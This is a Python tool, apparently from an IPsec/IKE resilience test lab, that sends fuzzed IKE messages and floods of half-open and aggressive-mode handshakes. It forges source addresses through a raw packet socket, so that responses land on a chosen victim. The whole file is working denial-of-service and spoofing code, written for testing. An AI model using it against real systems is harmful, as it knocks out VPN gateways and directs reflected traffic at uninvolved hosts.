# SPDX-License-Identifier: Apache-2.0
"""Sends what attackers send, at a chosen rate. Runs inside a scene's namespace.

    assault.py malformed PORT MAC PCAP TARGET PER_SECOND COUNT SEED   real messages, damaged in all ways
    assault.py flood PORT MAC TARGET VICTIM PER_SECOND SECONDS          first messages, by VICTIM and by anybody
    assault.py aggressive PORT MAC TARGET VICTIM PER_SECOND SECONDS     those of aggressive mode, by VICTIM alone
    assault.py probe SOURCE TARGET SECONDS                            an honest client, once a second

Attackers' frames leave by a packet socket, so any source address can be claimed. The first line printed says
how many frames there are; the second, at the end, how many left in how many seconds.
"""

from __future__ import annotations

import itertools
import random
import socket
import struct
import sys
import time
from collections.abc import Iterator

HEADER = 28
EXCHANGES = (0, 1, 2, 3, 4, 5, 6, 32, 33, 34, 255)


def checksum(octets: bytes) -> int:
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(mac: bytes, own: bytes, source: bytes, target: bytes, port: int, message: bytes) -> bytes:
    """Ethernet, IP and UDP around a message, from and to `port`; 4500 has the non-ESP marker."""
    payload = (b"\0" * 4 if port == 4500 else b"") + message
    udp = struct.pack("!HHHH", port, port, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, target)
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return mac + own + b"\x08\x00" + head + udp


def read_messages(path: str, target: bytes) -> list[tuple[int, bytes]]:
    """(port, message) of every IKE datagram in the capture that went to `target`."""
    octets = open(path, "rb").read()
    messages, at = [], 24
    while at + 16 <= len(octets):
        length = struct.unpack("<I", octets[at + 8 : at + 12])[0]
        packet = octets[at + 16 : at + 16 + length]
        at += 16 + length
        if len(packet) < 42 or packet[12:14] != b"\x08\x00" or packet[23] != 17 or packet[30:34] != target:
            continue
        port = struct.unpack("!H", packet[36:38])[0]
        body = packet[42 : 34 + struct.unpack("!H", packet[38:40])[0]]
        if port == 500:
            messages.append((500, body))
        elif port == 4500 and body[:4] == b"\0" * 4 and len(body) > 4:
            messages.append((4500, body[4:]))
    return messages


def with_length(message: bytes) -> bytes:
    """The header's length made to agree."""
    if len(message) < HEADER:
        return message
    return message[:24] + struct.pack("!I", len(message)) + message[28:]


def fragment(message: bytes, rng: random.Random) -> bytes:
    """A fragment under the message's cookies, of any of the bad and good forms."""
    data = rng.randbytes(rng.choice((0, 1, 100, 500)))
    length = rng.choice((0, 1, 2, 3, 4, 5, 6, 7, 8, 8 + len(data), 0xFFFF))
    number = rng.choice((0, 1, 2, 3, 254, 255))
    next_payload, identifier, last = rng.choice((0, 0, 132)), rng.choice((1, 1, 7)), rng.choice((0, 1))
    payload = struct.pack("!BBHHBB", next_payload, 0, length, identifier, number, last)
    head = message[:16] + bytes((132, 0x10, rng.choice((2, 4)), 0)) + b"\0" * 8
    return with_length(head + payload + data)


def damaged(message: bytes, rng: random.Random) -> bytes:
    kind = rng.randrange(9)
    changed = bytearray(message)
    if kind == 0:
        return message[: rng.randrange(len(message))]
    if kind == 1:
        return with_length(message[: rng.randrange(HEADER, len(message) + 1)])
    if kind == 2:
        for _ in range(rng.choice((1, 2, 8))):
            changed[rng.randrange(len(changed))] ^= 1 << rng.randrange(8)
        return bytes(changed)
    if kind == 3:
        changed[18] = rng.choice(EXCHANGES)
        changed[19] ^= rng.choice((0, 1))
        changed[20:24] = rng.randbytes(4) if rng.randrange(2) else b"\0" * 4
        return bytes(changed)
    if kind == 4:
        changed[16] = rng.randrange(256)
        return bytes(changed)
    if kind == 5:
        lie = rng.choice((0, 27, 28, len(message) - 1, len(message) + 1, 0xFFFFFFFF))
        return message[:24] + struct.pack("!I", lie) + message[28:]
    if kind == 6:
        return fragment(message, rng)
    if kind == 7:
        return with_length(message + rng.randbytes(rng.randrange(1, 400)))
    if rng.randrange(2):
        return rng.randbytes(8) + message[8:]
    return message[:8] + rng.randbytes(8) + message[16:]


def send(port: str, frames: Iterator[bytes], count: int, per_second: int) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((port, 0))
        print(count, flush=True)
        start = time.monotonic()
        sent = lost = 0
        while sent < count:
            due = min(count, int((time.monotonic() - start) * per_second) + 1)
            for octets in itertools.islice(frames, due - sent):
                try:
                    wire.send(octets)
                except OSError:
                    lost += 1  # the port's queue is full
            sent = due
            time.sleep(0.001)
        print(f"{sent - lost} {time.monotonic() - start:.2f}", flush=True)


def own_mac(port: str) -> bytes:
    return bytes.fromhex(open(f"/sys/class/net/{port}/address").read().strip().replace(":", ""))


def malformed(port: str, mac: str, pcap: str, target: str, per_second: str, count: str, seed: str) -> None:
    """From the peer's own address (the cookies are those of a live SA) and from ten others."""
    rng = random.Random(int(seed))
    aim, hardware, own = socket.inet_aton(target), bytes.fromhex(mac.replace(":", "")), own_mac(port)
    messages = read_messages(pcap, aim)
    peer = socket.inet_aton("192.0.2.20")
    others = [socket.inet_aton(f"192.0.2.{number}") for number in range(100, 110)]
    frames = []
    for _ in range(int(count)):
        udp_port, message = rng.choice(messages)
        source = peer if rng.randrange(4) == 0 else rng.choice(others)
        frames.append(frame(hardware, own, source, aim, udp_port, damaged(message, rng)))
    send(port, iter(frames), len(frames), int(per_second))


def proposal_of(group: int) -> bytes:
    """An SA body: AES-256, SHA2-256, pre-shared key."""
    attributes = struct.pack(
        "!12H", 0x8001, 7, 0x800E, 256, 0x8002, 4, 0x8003, 1, 0x8004, group, 0x800B, 1
    ) + struct.pack("!HHI", 12, 4, 86400)
    transform = struct.pack("!BBHBBH", 0, 0, 8 + len(attributes), 1, 1, 0) + attributes
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
    return struct.pack("!II", 1, 1) + proposal


def message_of(cookie: int, exchange: int, *payloads: tuple[int, bytes]) -> bytes:
    """The first message of an exchange: payloads are (type, body)."""
    kinds = [kind for kind, _ in payloads] + [0]
    octets = struct.pack("!QQBBBBII", cookie, 0, kinds[0], 0x10, exchange, 0, 0, 0)
    for (_, body), after in zip(payloads, kinds[1:]):
        octets += struct.pack("!BBH", after, 0, 4 + len(body)) + body
    return with_length(octets)


def first_message(cookie: int) -> bytes:
    """Acceptable, so that each makes a half-open entry."""
    return message_of(cookie, 2, (1, proposal_of(19)))


def first_aggressive_message(victim: bytes) -> bytes:
    """Acceptable, by the victim's name, in the group that costs an answer most: MODP-2048."""
    rng = random.Random(2)
    key_exchange, nonce = rng.randbytes(256), rng.randbytes(32)
    identity = struct.pack("!BBH", 1, 0, 0) + victim
    return message_of(0, 4, (1, proposal_of(14)), (4, key_exchange), (10, nonce), (5, identity))


def first_frames(mac: bytes, own: bytes, target: bytes, victim: bytes) -> Iterator[bytes]:
    """Every other one from the victim, the rest from all over the Internet; every cookie another."""
    rng = random.Random(1)
    octets = bytearray(frame(mac, own, bytes(4), target, 500, first_message(0)))
    without_source = ~struct.unpack_from("!H", octets, 24)[0] & 0xFFFF
    for cookie in itertools.count(rng.randrange(1 << 60)):
        source = victim if cookie & 1 else bytes((rng.randrange(11, 127), *rng.randbytes(3)))
        total = without_source + int.from_bytes(source[:2], "big") + int.from_bytes(source[2:], "big")
        total = (total & 0xFFFF) + (total >> 16)
        struct.pack_into("!H4s", octets, 24, ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF, source)
        struct.pack_into("!Q", octets, 42, cookie)
        yield octets


def aggressive(port: str, mac: str, target: str, victim: str, per_second: str, seconds: str) -> None:
    hardware, rate, name = bytes.fromhex(mac.replace(":", "")), int(per_second), socket.inet_aton(victim)
    octets = bytearray(
        frame(hardware, own_mac(port), name, socket.inet_aton(target), 500, first_aggressive_message(name))
    )

    def frames() -> Iterator[bytes]:
        for cookie in itertools.count(random.Random(1).randrange(1 << 60)):
            struct.pack_into("!Q", octets, 42, cookie)
            yield octets

    send(port, frames(), rate * int(seconds), rate)


def flood(port: str, mac: str, target: str, victim: str, per_second: str, seconds: str) -> None:
    hardware, rate = bytes.fromhex(mac.replace(":", "")), int(per_second)
    frames = first_frames(hardware, own_mac(port), socket.inet_aton(target), socket.inet_aton(victim))
    send(port, frames, rate * int(seconds), rate)


def probe(source: str, target: str, seconds: str) -> None:
    """Clean first messages, one a second, each of a new exchange: prints how long each answer took."""
    wire = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    wire.bind((source, 0))
    rng = random.Random()
    for _ in range(int(seconds)):
        cookie = rng.randrange(1, 1 << 64)
        start = time.monotonic()
        wire.settimeout(1.0)
        wire.sendto(first_message(cookie), (target, 500))
        try:
            answer = wire.recv(65535)
            while struct.unpack("!Q", answer[:8])[0] != cookie:
                answer = wire.recv(65535)
            print(f"{time.monotonic() - start:.4f}", flush=True)
        except TimeoutError:
            print("none", flush=True)
        time.sleep(max(0.0, 1 - (time.monotonic() - start)))


if __name__ == "__main__":
    {"malformed": malformed, "flood": flood, "aggressive": aggressive, "probe": probe}[sys.argv[1]](*sys.argv[2:])
